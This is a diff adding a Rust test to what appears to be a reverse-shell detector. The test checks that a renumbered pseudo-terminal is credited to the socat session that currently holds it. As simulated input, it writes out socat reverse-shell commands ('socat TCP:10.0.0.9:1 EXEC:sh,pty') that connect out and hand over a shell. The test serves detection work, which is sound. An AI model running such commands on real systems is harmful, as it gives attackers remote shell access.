@@ -234,3 +234,18 @@ fn a_terminal_that_one_socat_keeps_and_another_connects() {
     let found = world.exec(10, 11, sh(), "/bin/sh", &["sh"], &shell).unwrap();
     assert_eq!(found.metadata.module, "SOCAT_REVERSE_SHELL_DETECTED");
 }
+
+#[test]
+fn a_terminal_that_was_numbered_anew_belongs_to_who_has_it_now() {
+    for (older, newer) in [(10, 20), (20, 10)] {
+        let mut world = World::new();
+        world.exec(INIT, older, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:1", "EXEC:sh,pty"], &[]);
+        world.opens(older, &[tcp(5, 50, Connected), master(6, 0)]);
+        assert!(world.exec(older, 11, sh(), "/bin/sh", &["sh"], &[slave(0, 0), slave(1, 0)]).is_some());
+        // the end of the first session is not known yet
+        world.exec(INIT, newer, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:2", "EXEC:sh,pty"], &[]);
+        world.opens(newer, &[tcp(5, 60, Connected), master(6, 0)]);
+        let second = world.exec(newer, 12, sh(), "/bin/sh", &["sh"], &[slave(0, 0), slave(1, 0)]).unwrap();
+        assert_eq!(second.endpoint.unwrap().inode, 60);
+    }
+}
